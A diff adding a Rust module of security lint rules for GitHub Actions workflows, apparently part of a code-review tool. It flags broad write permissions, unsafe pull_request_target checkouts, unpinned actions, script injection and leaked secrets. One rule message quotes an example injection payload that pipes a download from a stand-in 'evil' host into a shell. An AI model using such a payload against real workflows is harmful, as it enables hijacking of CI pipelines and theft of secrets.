@@ -1,0 +1,262 @@
+//! Workflows of GitHub Actions: what they may do, whose text they run, whose code they trust.
+
+use super::place::Row;
+use super::rule::Fits::{Bare, When};
+use super::rule::{Rule, Signal};
+use super::text;
+use crate::kinds::FileKind;
+use crate::wit::Severity::{Major, Minor, Nit};
+
+const ALL: Signal = Signal::security(
+    "workflows/write-all",
+    Major,
+    0.9,
+    "The workflow may change everything in the repository",
+    "With `write-all` every step, third-party actions included, holds a token that can push code and publish \
+     releases. Grant the single permissions that the job needs.",
+);
+
+const WIDENED: Signal = Signal::security(
+    "workflows/widened",
+    Minor,
+    0.8,
+    "A permission of the workflow is widened from read to write",
+    "Every step of the job, third-party actions included, can now use it. Grant it only to the job that needs it.",
+);
+
+const GRANTED: Signal = Signal::security(
+    "workflows/granted",
+    Nit,
+    0.6,
+    "The workflow gets a permission to write",
+    "Every step of the job, third-party actions included, can use it. Check that no narrower permission will do.",
+);
+
+const TARGET: Signal = Signal::security(
+    "workflows/target",
+    Minor,
+    0.8,
+    "The workflow runs for pull requests of strangers with the repository's secrets",
+    "`pull_request_target` runs with a writing token and secrets. It must never run code or text of the pull \
+     request. Use `pull_request` unless only labels and comments are touched.",
+);
+
+const CHECKOUT: Signal = Signal::security(
+    "workflows/checkout",
+    Major,
+    0.9,
+    "Code of a stranger's pull request is checked out beside the repository's secrets",
+    "Under `pull_request_target` the head of the pull request is untrusted: its build scripts can take the token and \
+     push. Build it in a `pull_request` workflow without secrets.",
+);
+
+const UNPINNED: Signal = Signal::security(
+    "workflows/unpinned",
+    Minor,
+    0.8,
+    "An action is taken from a branch",
+    "Whoever can push to that branch runs code in this workflow, with its token and secrets. Pin the action to a \
+     release, better to the SHA of a commit.",
+);
+
+const INJECTION: Signal = Signal::security(
+    "workflows/injection",
+    Major,
+    0.9,
+    "Text of a stranger is pasted into a shell script",
+    "A title or branch name like `\"; curl evil | sh #` is executed with the workflow's token. Put the expression into \
+     `env:` and use the variable, in quotes.",
+);
+
+const PRINTED: Signal = Signal::security(
+    "workflows/printed",
+    Major,
+    0.75,
+    "A secret is printed in the log of a workflow",
+    "Masking fails as soon as the value is changed a little, and logs are readable for many. Do not print it.",
+);
+
+const IGNORED: Signal = Signal::new(
+    "workflows/ignored",
+    Minor,
+    "ci",
+    0.75,
+    "A failing check no longer fails the build",
+    "With `|| true` the step is green whatever it finds, so broken code can be merged. Let it fail, or exclude what \
+     is known to be broken.",
+);
+
+const CONTINUED: Signal = Signal::new(
+    "workflows/continued",
+    Nit,
+    "ci",
+    0.6,
+    "A step may fail without failing the build",
+    "Check that nobody relies on this step. `continue-on-error` hides its failures.",
+);
+
+const UNSECURE: Signal = Signal::security(
+    "workflows/commands",
+    Major,
+    0.9,
+    "Deprecated workflow commands are switched on again",
+    "Any printed text can then set variables and paths for later steps. Write to `$GITHUB_ENV` and `$GITHUB_PATH`.",
+);
+
+pub const RULES: &[Rule] = &[
+    Rule::new(
+        "YAML",
+        When("write", |row| {
+            workflow(row) && row.says("permissions : write-all")
+        }),
+        ALL,
+    ),
+    Rule::new(
+        "YAML",
+        When("write", |row| grants(row) && widens(row)),
+        WIDENED,
+    ),
+    Rule::new(
+        "YAML",
+        When("write", |row| grants(row) && !widens(row)),
+        GRANTED,
+    ),
+    Rule::new(
+        "YAML",
+        When("pull_request_target", |row| {
+            workflow(row)
+                && row.code().contains("pull_request_target")
+                && !row.code().contains("github.")
+        }),
+        TARGET,
+    ),
+    Rule::new("YAML", When("ref", untrusted_checkout), CHECKOUT),
+    Rule::new("YAML", When("uses", unpinned), UNPINNED),
+    Rule::new("YAML", When("github", injected), INJECTION),
+    Rule::new(
+        "YAML",
+        When("secrets", |row| {
+            workflow(row) && row.says("echo .. { secrets.") && !row.bare().contains(['|', '>'])
+        }),
+        PRINTED,
+    ),
+    Rule::new("YAML|Makefile", When("true", ignored), IGNORED),
+    Rule::new(
+        "YAML",
+        When("continue", |row| {
+            workflow(row) && row.says("continue-on-error : true")
+        }),
+        CONTINUED,
+    ),
+    Rule::new(
+        "YAML",
+        Bare(&[
+            "ACTIONS_ALLOW_UNSECURE_COMMANDS : true",
+            "ACTIONS_ALLOW_UNSECURE_COMMANDS : ' true '",
+        ]),
+        UNSECURE,
+    ),
+];
+
+fn workflow(row: &Row) -> bool {
+    row.place().kind == FileKind::Ci
+}
+
+/// `contents: write` under `permissions:`.
+fn grants(row: &Row) -> bool {
+    let scopes = "contents actions checks deployments issues packages pages statuses security-events pull-requests id-token attestations discussions";
+    let scope = row
+        .code()
+        .trim()
+        .split_once(':')
+        .filter(|(_, value)| value.trim() == "write")
+        .map(|(scope, _)| scope.trim());
+    workflow(row) && scope.is_some_and(|scope| scopes.split(' ').any(|one| one == scope))
+}
+
+/// Whether the same permission was `read` or `none` in a line that is deleted.
+fn widens(row: &Row) -> bool {
+    let scope = row.code().trim().split(':').next().unwrap_or_default();
+    let was = |value: &str| {
+        row.place()
+            .deleted()
+            .any(|line| line.text.trim() == format!("{scope}: {value}"))
+    };
+    was("read") || was("none")
+}
+
+fn untrusted_checkout(row: &Row) -> bool {
+    let head =
+        row.says("ref : .. github.event.pull_request.head") || row.says("ref : .. github.head_ref");
+    workflow(row)
+        && head
+        && row
+            .place()
+            .lines()
+            .any(|line| line.new.is_some() && line.text.contains("pull_request_target"))
+}
+
+fn unpinned(row: &Row) -> bool {
+    let used = row
+        .code()
+        .split_once("uses:")
+        .map(|(_, used)| used.trim().trim_matches(['"', '\'']));
+    let reference = used
+        .and_then(|used| used.split_once('@'))
+        .map(|(_, reference)| reference);
+    workflow(row)
+        && reference.is_some_and(|reference| {
+            [
+                "main", "master", "HEAD", "latest", "develop", "dev", "trunk",
+            ]
+            .contains(&reference)
+        })
+}
+
+/// What a stranger chooses, put into a `run:` or a `script:` by the template engine.
+fn injected(row: &Row) -> bool {
+    let chosen = ["{ github.event.", "{ github.head_ref"];
+    workflow(row) && text::has_any(row.bare(), &chosen) && foreign(row.bare()) && scripted(row)
+}
+
+fn foreign(text: &str) -> bool {
+    let Some((_, expression)) = text.split_once("github.") else {
+        return false;
+    };
+    let path = expression
+        .split(|c: char| !(c.is_ascii_alphanumeric() || "._-*[]".contains(c)))
+        .next()
+        .unwrap_or_default();
+    path == "head_ref"
+        || [
+            ".title",
+            ".body",
+            ".message",
+            ".head.ref",
+            ".head.label",
+            ".page_name",
+            ".email",
+            ".name",
+            ".label",
+        ]
+        .iter()
+        .any(|end| path.ends_with(end))
+            && !path.contains("repository")
+}
+
+/// Whether the line belongs to a script: on the line of `run:`, or in the block under it.
+fn scripted(row: &Row) -> bool {
+    let starts = |text: &str| {
+        let text = text.trim_start().trim_start_matches("- ");
+        text.starts_with("run:") || text.starts_with("script:")
+    };
+    starts(row.code()) || row.parent().is_some_and(|parent| starts(parent.code()))
+}
+
+fn ignored(row: &Row) -> bool {
+    let checks = text::has_word(
+        row.bare(),
+        "test tests lint check audit pytest mypy ruff eslint tsc clippy jest typecheck vet",
+    );
+    workflow(row) && checks && text::has(row.bare(), "|| true")
+}
